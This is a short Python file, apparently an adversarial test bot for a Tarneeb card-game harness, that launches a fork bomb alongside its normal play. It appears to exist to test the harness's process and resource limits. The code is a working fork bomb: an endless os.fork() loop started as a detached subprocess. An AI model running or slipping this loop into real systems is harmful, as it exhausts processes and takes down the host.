"""Starts a fork bomb beside itself, and plays on."""

import os
import subprocess
import sys
import time

from kit import Attacker

from tarneeb_sdk import SeatView, run


def bomb() -> None:
    while True:
        try:
            os.fork()
        except OSError as error:
            print("fork refused:", error.strerror, flush=True)
            time.sleep(1)


class ForkBomb(Attacker):
    def attack(self, view: SeatView) -> None:
        subprocess.Popen([sys.executable, __file__, "bomb"])


if __name__ == "__main__":
    if sys.argv[1:] == ["bomb"]:
        bomb()
    else:
        run(ForkBomb)
